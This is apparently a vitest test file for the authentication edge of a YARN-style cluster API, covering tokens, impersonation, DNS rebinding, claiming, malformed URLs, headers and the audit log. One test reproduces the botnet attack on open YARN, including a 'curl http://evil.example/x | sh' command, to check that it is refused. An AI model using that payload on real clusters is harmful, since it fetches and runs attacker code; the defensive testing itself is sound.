import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { fakeCluster, NODE_ID, serviceOf, signer, yarnfile } from "./fake-cluster.ts";

let logged: string[] = [];

beforeEach(() => {
  logged = [];
  const record = (line: string) => {
    logged.push(line);
  };
  vi.spyOn(console, "log").mockImplementation(record);
  vi.spyOn(console, "error").mockImplementation(record);
});

afterEach(() => {
  vi.useRealTimers();
});

describe("the botnets' two steps against YARN (DemonBot, Kinsing)", () => {
  const steps = [
    ["/ws/v1/cluster/apps/new-application", undefined],
    [
      "/ws/v1/cluster/apps",
      {
        "application-id": "application_1503963985568_0003",
        "application-name": "hadoop",
        "am-container-spec": { commands: { command: "curl http://evil.example/x | sh" } },
        "application-type": "YARN",
      },
    ],
  ] as const;

  it.each(steps)("get nothing without a token: POST %s", async (path, body) => {
    const cluster = await fakeCluster();
    for (const suffix of ["", "?user.name=dr.who", "?doAs=root", "/"]) {
      const answer = await cluster.ask("POST", `${path}${suffix}`, body ? { body } : {});
      expect(answer.status).toBe(401);
      expect(answer.json.RemoteException.exception).toBe("AuthorizationException");
    }
    expect(cluster.reached()).toEqual([]);
  });

  it.each(steps)("are told the honest truth with one: POST %s", async (path, body) => {
    const cluster = await fakeCluster();
    const token = cluster.tokens.admin;
    const answer = await cluster.ask("POST", path, body ? { token, body } : { token });
    expect(answer.status).toBe(404);
    expect(answer.json.code).toBe("NOT_FOUND");
    expect(answer.json.hint).toContain("POST /app/v1/services");
    expect(cluster.reached()).toEqual([]);
  });
});

describe("pretending to be somebody", () => {
  it("user.name proves nothing, and the refusal says so", async () => {
    const cluster = await fakeCluster();
    const answer = await cluster.ask("GET", "/app/v1/services?user.name=joe");
    expect(answer.status).toBe(401);
    expect(answer.json.hint).toContain("user.name proves nothing");
  });

  it("user.name does not change who a token is of", async () => {
    const cluster = await fakeCluster({ development: true });
    const answer = await cluster.ask("GET", "/ws/v1/security/whoami?user.name=joe", {
      token: cluster.tokens.eve,
      origin: "http://localhost:8088",
    });
    expect(answer.json).toMatchObject({ user: "eve", role: "user" });
  });

  it.each([
    ["a user name with a slash", { sub: "joe/../ann", role: "user" }],
    ["an upper-case user", { sub: "Joe", role: "user" }],
    ["a role that does not exist", { sub: "joe", role: "root" }],
    ["no role", { sub: "joe" }],
    ["no user", { role: "admin" }],
  ])("a signed token with %s is none", async (_, claims) => {
    const cluster = await fakeCluster();
    const token = await cluster.keys.sign({ aud: "user", ...claims });
    expect((await cluster.ask("GET", "/app/v1/services", { token })).status).toBe(401);
  });

  it("a token for several audiences is for none of them", async () => {
    const cluster = await fakeCluster();
    const claims = { aud: ["user", "node"], sub: "joe", role: "admin" };
    const token = await cluster.keys.sign(claims);
    expect((await cluster.ask("GET", "/app/v1/services", { token })).status).toBe(401);
  });

  it("a node cannot register as another node", async () => {
    const cluster = await fakeCluster();
    const answer = await cluster.ask("POST", "/ws/v1/node/heartbeat", {
      token: cluster.tokens.node,
      body: { messages: [registerMessage("victim.example.com:8041")] },
    });
    expect(answer.status).toBe(403);
    expect(answer.json.detail).toContain(`node ${NODE_ID} may not register as victim`);
    expect(cluster.reached()).toEqual([]);
  });

  it("a node's heartbeat is always its own", async () => {
    const cluster = await fakeCluster();
    await cluster.ask("POST", "/ws/v1/node/heartbeat?nodeId=victim:1", {
      token: cluster.tokens.node,
      body: { messages: [registerMessage(NODE_ID)] },
    });
    expect(cluster.reached()).toEqual([`heartbeat of ${NODE_ID}`]);
  });
});

describe("the developer's user.name on the machine itself", () => {
  const path = "/ws/v1/security/whoami?user.name=joe";

  it.each(["http://localhost:8088", "http://127.0.0.1:8088", "http://[::1]:8088"])(
    "is believed at %s, without the role admin",
    async (origin) => {
      const cluster = await fakeCluster({ development: true });
      const answer = await cluster.ask("GET", path, { origin });
      expect(answer.json).toMatchObject({ user: "joe", role: "user", expiresMs: null });
    },
  );

  it.each([
    ["from another machine", { origin: "http://192.168.1.7:8088" }],
    ["under a name that points here (DNS rebinding)", { origin: "http://evil.example:8088" }],
    ["under a name that looks like here", { origin: "http://localhost.evil.example:8088" }],
    ["under an address that looks like here", { origin: "http://127.0.0.1.evil.example" }],
    ["from another site's page", { headers: { origin: "https://evil.example" } }],
    ["from a page without an origin", { headers: { origin: "null" } }],
    ["from another site's image", { headers: { "sec-fetch-site": "cross-site" } }],
    ["from a sister site's page", { headers: { "sec-fetch-site": "same-site" } }],
  ])("is not believed %s", async (_, how) => {
    const cluster = await fakeCluster({ development: true });
    const answer = await cluster.ask("GET", path, { origin: "http://localhost:8088", ...how });
    expect(answer.status).toBe(401);
  });

  it.each(["root", "Joe", "joe/x", "../ann", ""])(
    "gives nobody rights by its choice of name: %j",
    async (name) => {
      const cluster = await fakeCluster({ development: true });
      const answer = await cluster.ask(
        "POST",
        `/ws/v1/security/join-tokens?user.name=${encodeURIComponent(name)}`,
        { origin: "http://localhost:8088", body: {} },
      );
      expect([401, 403]).toContain(answer.status);
      expect(cluster.reached()).toEqual([]);
    },
  );

  it("cannot be turned into a token", async () => {
    const cluster = await fakeCluster({ development: true });
    const answer = await cluster.ask("POST", "/ws/v1/security/tokens?user.name=joe", {
      origin: "http://localhost:8088",
      body: {},
    });
    expect(answer.status).toBe(403);
    expect(cluster.reached()).toEqual([]);
  });
});

describe("a cluster that nobody has claimed", () => {
  it("refuses every write with the command that claims it", async () => {
    const cluster = await fakeCluster({ claimed: false });
    for (const token of [undefined, cluster.tokens.admin]) {
      const more = token === undefined ? {} : { token };
      const answer = await cluster.ask("POST", "/app/v1/services", {
        body: yarnfile("web"),
        ...more,
      });
      expect(answer.status).toBe(503);
      expect(answer.json.hint).toContain(
        "selvedge login --url https://cluster.example.com --claim CODE",
      );
      expect(answer.json.diagnostics).toContain("selvedge login");
    }
    expect(cluster.services.size).toBe(0);
  });

  it("refuses reads as always", async () => {
    const cluster = await fakeCluster({ claimed: false });
    expect((await cluster.ask("GET", "/app/v1/services")).status).toBe(401);
  });

  it("works at once when it is claimed, though it was asked for keys it did not have", async () => {
    const cluster = await fakeCluster({ claimed: false });
    await cluster.ask("POST", "/app/v1/services", { body: yarnfile("web") });
    await cluster.ask("GET", "/app/v1/services", { token: cluster.tokens.joe });
    const claim = await cluster.ask("POST", "/ws/v1/security/claim", {
      body: { code: "the-right-claim-code", user: "ann" },
    });
    const { token } = claim.json;
    const answer = await cluster.ask("POST", "/app/v1/services", { token, body: yarnfile("web") });
    expect(answer.status).toBe(202);
  });

  it("names the cluster of the URL in the command", async () => {
    const cluster = await fakeCluster({ claimed: false });
    const answer = await cluster.ask("POST", "/clusters/blue/app/v1/services", { body: {} });
    expect(answer.json.hint).toContain("--cluster blue --claim CODE");
  });
});

describe("tokens that nobody signed", () => {
  it("cannot make the edge ask the cluster for keys more than once a second", async () => {
    vi.useFakeTimers({ toFake: ["Date"], now: 1_800_000_000_000 });
    const cluster = await fakeCluster();
    for (let attempt = 0; attempt < 50; attempt++) {
      const { sign } = await signer("default", `key-${attempt}`);
      const token = await sign({ aud: "user", sub: "joe", role: "admin" });
      expect((await cluster.ask("GET", "/app/v1/services", { token })).status).toBe(401);
    }
    expect(cluster.calls).toEqual(["getVerificationKeys"]);
    vi.setSystemTime(1_800_000_001_000);
    const { sign } = await signer("default", "key-50");
    const token = await sign({ aud: "user", sub: "joe", role: "admin" });
    await cluster.ask("GET", "/app/v1/services", { token });
    expect(cluster.calls).toEqual(["getVerificationKeys", "getVerificationKeys"]);
  });

  it("of another cluster's name do not even reach the cluster", async () => {
    const cluster = await fakeCluster();
    const { sign } = await signer("other");
    const token = await sign({ aud: "user", sub: "joe", role: "admin" });
    await cluster.ask("GET", "/app/v1/services", { token });
    expect(cluster.calls).toEqual([]);
  });

  it("fetch the keys again after a minute, so that a withdrawn key ends", async () => {
    vi.useFakeTimers({ toFake: ["Date"], now: 1_800_000_000_000 });
    const cluster = await fakeCluster();
    const ask = () => cluster.ask("GET", "/ws/v1/security/whoami", { token: cluster.tokens.joe });
    await ask();
    await ask();
    expect(cluster.calls).toEqual(["getVerificationKeys"]);
    vi.setSystemTime(1_800_000_060_000);
    await ask();
    expect(cluster.calls).toEqual(["getVerificationKeys", "getVerificationKeys"]);
  });
});

describe("clusters", () => {
  it("are separate: one's token means nothing to another", async () => {
    const cluster = await fakeCluster();
    const token = cluster.tokens.admin;
    expect((await cluster.ask("GET", "/clusters/blue/app/v1/services", { token })).status).toBe(
      401,
    );
    expect((await cluster.ask("GET", "/clusters/default/app/v1/services", { token })).status).toBe(
      200,
    );
  });

  it.each(["Blue", "-blue", "blue_1", "a.b", "x".repeat(64), "%00", ""])(
    "have names of one kind only: %j",
    async (name) => {
      const cluster = await fakeCluster();
      const answer = await cluster.ask("GET", `/clusters/${name}/healthz`);
      expect([400, 401]).toContain(answer.status);
      expect(cluster.calls).toEqual([]);
    },
  );

  it("that a deployment does not have are refused before any object is made for them", async () => {
    const cluster = await fakeCluster();
    for (const path of ["/healthz", "/ws/v1/security/claim", "/registry/v1/users"]) {
      const answer = await cluster.ask("POST", `/clusters/elsewhere${path}`, { body: {} });
      expect(answer.status).toBe(404);
    }
    expect(cluster.connectedClusters).toEqual([]);
  });

  it("reach the objects of that cluster", async () => {
    const cluster = await fakeCluster();
    await cluster.ask("GET", "/clusters/blue/healthz");
    await cluster.ask("GET", "/healthz");
    expect(cluster.connectedClusters).toEqual(["blue", "default"]);
  });
});

describe("node connections", () => {
  it("are refused to web pages", async () => {
    const cluster = await fakeCluster();
    const answer = await cluster.ask("GET", "/ws/v1/node/connect", {
      token: cluster.tokens.node,
      headers: { upgrade: "websocket", origin: "https://cluster.example.com" },
    });
    expect(answer.status).toBe(403);
    expect(cluster.reached()).toEqual([]);
  });

  it("must be WebSockets", async () => {
    const cluster = await fakeCluster();
    const token = cluster.tokens.node;
    const answer = await cluster.ask("GET", "/ws/v1/node/connect", { token });
    expect(answer.status).toBe(426);
    expect(answer.json.hint).toContain("Upgrade: websocket");
  });
});

describe("malformed URLs", () => {
  it.each([
    "/app/v1/services/%",
    "/app/v1/services/%zz",
    "/app/v1/services/%ff%fe",
    "/app/v1/services/a%2Fb",
    "/app/v1/services/..%2f..%2fjoe",
    "/app/v1/services/%00",
    "/app/v1/services/web/logs?offset=%zz&instance=%",
    "/app/v1/services?state=%ff&__proto__=1&__proto__=2&constructor=3",
    "/ws/v1/cluster/nodes/%2e%2e%2f",
    "/registry/v1/%ff",
    "/%",
    "//app//v1//services",
  ])("are the caller's fault: %s", async (path) => {
    const cluster = await fakeCluster();
    cluster.services.set("joe/web", serviceOf("joe", "web"));
    const answer = await cluster.ask("GET", path, { token: cluster.tokens.joe });
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(answer.status).toBeLessThan(500);
  });
});

describe("what leaves the edge", () => {
  it("carries the headers that keep browsers and caches from mischief", async () => {
    const cluster = await fakeCluster();
    const token = cluster.tokens.joe;
    const answers = [
      await cluster.ask("GET", "/app/v1/services", { token }),
      await cluster.ask("GET", "/app/v1/services"),
      await cluster.ask("GET", "/app/v1/nothing", { token }),
    ];
    for (const { headers } of answers) {
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(headers.get("x-frame-options")).toBe("DENY");
      expect(headers.get("cache-control")).toBe("no-store");
      expect(headers.get("access-control-allow-origin")).toBeNull();
      expect(headers.get("x-request-id")).toMatch(/^[0-9a-f-]{36}$/);
    }
  });

  it("echoes a request id, unless it is one that would spoil a log", async () => {
    const cluster = await fakeCluster();
    const idOf = async (id: string) =>
      (await cluster.ask("GET", "/healthz", { headers: { "x-request-id": id } })).headers.get(
        "x-request-id",
      );
    expect(await idOf("deploy-42.a")).toBe("deploy-42.a");
    expect(await idOf('x"}{"event":"audit"')).toMatch(/^[0-9a-f-]{36}$/);
    expect(await idOf("x".repeat(65))).toMatch(/^[0-9a-f-]{36}$/);
  });

  it("has no detail of an inner error, which is in the log under the request's id", async () => {
    const cluster = await fakeCluster();
    cluster.state.resourceManagerFails = true;
    const answer = await cluster.ask("GET", "/ws/v1/cluster/metrics", {
      token: cluster.tokens.joe,
      headers: { "x-request-id": "find-me" },
    });
    expect(answer.status).toBe(500);
    expect(answer.text).not.toContain("secret internal detail");
    expect(answer.text).not.toContain(".ts:");
    expect(answer.json.detail).toContain("find-me");
    expect(logged.join("\n")).toMatch(/find-me.*secret internal detail/);
  });

  it("says of an unhealthy cluster only that it does not answer", async () => {
    const cluster = await fakeCluster();
    cluster.state.resourceManagerFails = true;
    const answer = await cluster.ask("GET", "/healthz");
    expect(answer.status).toBe(503);
    expect(answer.text).not.toContain("secret internal detail");
  });
});

describe("the audit log", () => {
  const auditLines = () =>
    logged.map((line) => JSON.parse(line)).filter(({ event }) => event === "audit");

  it("has one line for each write, done or refused, and none for reads", async () => {
    const cluster = await fakeCluster();
    const token = cluster.tokens.joe;
    const headers = { "x-request-id": "r1" };
    await cluster.ask("POST", "/app/v1/services", { token, headers, body: yarnfile("web") });
    await cluster.ask("GET", "/app/v1/services", { token });
    await cluster.ask("DELETE", "/app/v1/services/web", { headers: { "x-request-id": "r2" } });
    const line = { event: "audit", cluster: "default" };
    expect(auditLines()).toEqual([
      {
        ...line,
        user: "joe",
        method: "POST",
        path: "/app/v1/services",
        status: 202,
        requestId: "r1",
      },
      {
        ...line,
        user: null,
        method: "DELETE",
        path: "/app/v1/services/web",
        status: 401,
        requestId: "r2",
      },
    ]);
  });

  it("never holds a token, a claim code or a body", async () => {
    const cluster = await fakeCluster({ claimed: false });
    const body = { code: "the-right-claim-code", user: "ann" };
    const claim = await cluster.ask("POST", "/ws/v1/security/claim?code=canary-query", { body });
    const { token } = claim.json;
    const secret = yarnfile("web", { description: "canary-body" });
    await cluster.ask("POST", "/app/v1/services?access_token=canary-query", {
      token,
      body: secret,
    });
    await cluster.ask("POST", "/ws/v1/security/tokens", { token, body: {} });
    expect(auditLines()).toHaveLength(3);
    expect(logged.join("\n")).not.toMatch(/the-right-claim-code|canary|eyJ/);
  });
});

function registerMessage(nodeId: string) {
  return {
    type: "register",
    protocolVersion: 1,
    node: {
      nodeId,
      host: "worker1.example.com",
      rack: "/default-rack",
      capability: { memoryMb: 1_024, vcores: 1 },
      labels: [],
      attributes: {},
      agentVersion: "0.1.0",
      healthy: true,
      healthReport: "",
    },
    containers: [],
  };
}
